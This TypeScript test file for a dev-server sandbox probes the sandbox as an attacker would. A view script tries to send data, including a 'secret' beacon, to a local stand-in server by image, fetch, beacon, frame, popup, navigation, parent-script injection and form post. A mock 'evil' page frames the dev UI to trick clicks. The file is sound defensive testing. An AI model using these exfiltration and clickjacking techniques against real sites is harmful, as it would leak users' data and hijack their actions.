import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startDevServer, type DevServer } from '../../src/dev/dev-server.js'
import { launchBrowser } from '../../../../test/support/browser.js'
import { startFixtureServer, type FixtureServer } from './fixtures/app-server.mjs'

// Two probes from outside, as an attacker would run them: a view that tries every way out of its
// `connect-src 'none'`, and a foreign site that frames the dev page to click a tool.
const WAIT = { timeout: 20_000 }

/** A view that tries to reach `outside` despite the spec's default CSP, and writes what each attempt hit. */
function probeView(outside: string): string {
  return `<!doctype html><html><head><meta charset="utf-8"><title>probe</title></head><body>
<p id="status">probing</p><button id="leave">leave</button>
<script>
const OUT = ${JSON.stringify(outside)};
const tried = [];
const attempt = (name, fn) => { try { fn(); tried.push(name + ':ran'); } catch (e) { tried.push(name + ':' + e.name); } };
attempt('img', () => { new Image().src = OUT + '/img'; });
attempt('fetch', () => { fetch(OUT + '/fetch').catch(() => {}); });
attempt('beacon', () => navigator.sendBeacon(OUT + '/beacon', 'secret'));
attempt('frame', () => { const f = document.createElement('iframe'); f.src = OUT + '/frame'; document.body.append(f); });
attempt('popup', () => window.open(OUT + '/popup'));
attempt('top', () => { top.location.href = OUT + '/top'; });
// The proxy page allows inline scripts: a view that can reach it runs code there, outside the view's frame.
attempt('proxy', () => {
  const s = parent.document.createElement('script');
  s.textContent = 'location.href = ' + JSON.stringify(OUT + '/proxy');
  parent.document.body.append(s);
});
document.getElementById('status').textContent = 'done ' + tried.join(' ');
// Last, on the test's click (it replaces this document): navigate this frame itself with a form post.
document.getElementById('leave').addEventListener('click', () => {
  const form = document.createElement('form');
  form.method = 'post';
  form.action = OUT + '/form';
  document.body.append(form);
  form.submit();
});
</script></body></html>`
}

/** A loopback server that records every request it gets: the "outside" the view must not reach. */
async function startRecorder(): Promise<{ origin: string; hits: string[]; server: Server }> {
  const hits: string[] = []
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`)
    res.writeHead(200, { 'content-type': 'text/html' }).end('<p>got it</p>')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { origin: `http://localhost:${(server.address() as AddressInfo).port}`, hits, server }
}

describe('duet dev sandbox, probed from outside', { timeout: 90_000 }, () => {
  let dir: string
  let fixture: FixtureServer
  let dev: DevServer
  let browser: Browser
  let outside: Awaited<ReturnType<typeof startRecorder>>

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'duet-sandbox-'))
    outside = await startRecorder()
    const viewPath = join(dir, 'probe.html')
    writeFileSync(viewPath, probeView(outside.origin))
    fixture = await startFixtureServer({ viewPath })
    dev = await startDevServer({ servers: [{ kind: 'http', url: fixture.url }], port: 0, pollMs: 300 })
    browser = await launchBrowser()
  })

  afterAll(async () => {
    await browser?.close()
    await dev?.close()
    await fixture?.close()
    await new Promise<void>((resolve) => {
      outside?.server.closeAllConnections()
      outside?.server.close(() => resolve())
    })
    rmSync(dir, { recursive: true, force: true })
  })

  it("a view under connect-src 'none' gets nothing out: not by scripting the proxy, not by navigating, not by framing", async () => {
    const page: Page = await browser.newPage()
    try {
      await page.goto(dev.url)
      await page.getByTestId('tool-show_counter').click(WAIT)
      await page.getByTestId('field-label').fill('probe')
      await page.getByTestId('call-button').click()
      const view = page.frameLocator('[data-testid=app-frame]').frameLocator('iframe')
      const status = view.locator('#status')
      // Either the view reports its attempts, or (on a leaky sandbox) the proxy has already gone outside.
      const deadline = Date.now() + 15_000
      let report = ''
      while (Date.now() < deadline && outside.hits.length === 0) {
        report = await status.innerText({ timeout: 500 }).catch(() => report)
        if (report.startsWith('done')) break
        await page.waitForTimeout(200)
      }
      if (report.startsWith('done')) await view.locator('#leave').click()
      // Give the form post and any navigation time to land before asserting that none did.
      await page.waitForTimeout(2500)
      expect(outside.hits).toEqual([])
      // The view ran every attempt, and could not even touch the proxy's document (an opaque origin).
      expect(report).toContain('proxy:SecurityError')
      expect(report).toContain('img:ran')
      // The attempts that got as far as the browser's policy checks show up as CSP violations in the Logs.
      expect(await page.getByTestId('logs').innerText()).toContain(`CSP blocked ${outside.origin}`)
    } finally {
      await page.close()
    }
  })

  it('the dev page refuses to be framed by another site, so a click there calls no tool', async () => {
    const evil = createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><p>win a prize</p><iframe src="${dev.url}" width="1300" height="900"></iframe>`)
    })
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
    const page = await browser.newPage({ viewport: { width: 1400, height: 1000 } })
    try {
      await page.goto(`http://localhost:${(evil.address() as AddressInfo).port}/`)
      const framed = page.frameLocator('iframe')
      // The "user" clicks what the foreign page shows: a tool, its fields, Call tool.
      const clicked = await (async () => {
        await framed.getByTestId('tool-notify_ui').click({ timeout: 5000 })
        await framed.getByTestId('field-channel_id').fill('framed')
        await framed.getByTestId('field-event').fill('clicked')
        await framed.getByTestId('call-button').click()
        // Reached only if the framed page worked (the bug): time for its tool call to land, so the check below sees it.
        await page.waitForTimeout(1500)
        return true
      })().catch(() => false)
      expect(fixture.channels.get('ui:framed') ?? []).toEqual([])
      expect(clicked).toBe(false)
    } finally {
      await page.close()
      await new Promise<void>((resolve) => {
        evil.closeAllConnections()
        evil.close(() => resolve())
      })
    }
  })

  it('sends frame-ancestors and frame-src headers: the page frames only its sandbox, the sandbox only under the page', async () => {
    const host = await fetch(dev.url)
    const hostCsp = host.headers.get('content-security-policy') ?? ''
    expect(hostCsp).toContain("frame-ancestors 'none'")
    expect(hostCsp).toContain(`frame-src ${dev.sandboxOrigin} ${dev.sandboxOrigin.replace('127.0.0.1', 'localhost')}`)
    expect(host.headers.get('x-frame-options')).toBe('DENY')
    const sandbox = await fetch(`${dev.sandboxOrigin}/sandbox.html`)
    const origin = new URL(dev.url).origin
    expect(sandbox.headers.get('content-security-policy')).toContain(`frame-ancestors ${origin} ${origin.replace('127.0.0.1', 'localhost')}`)
  })
})
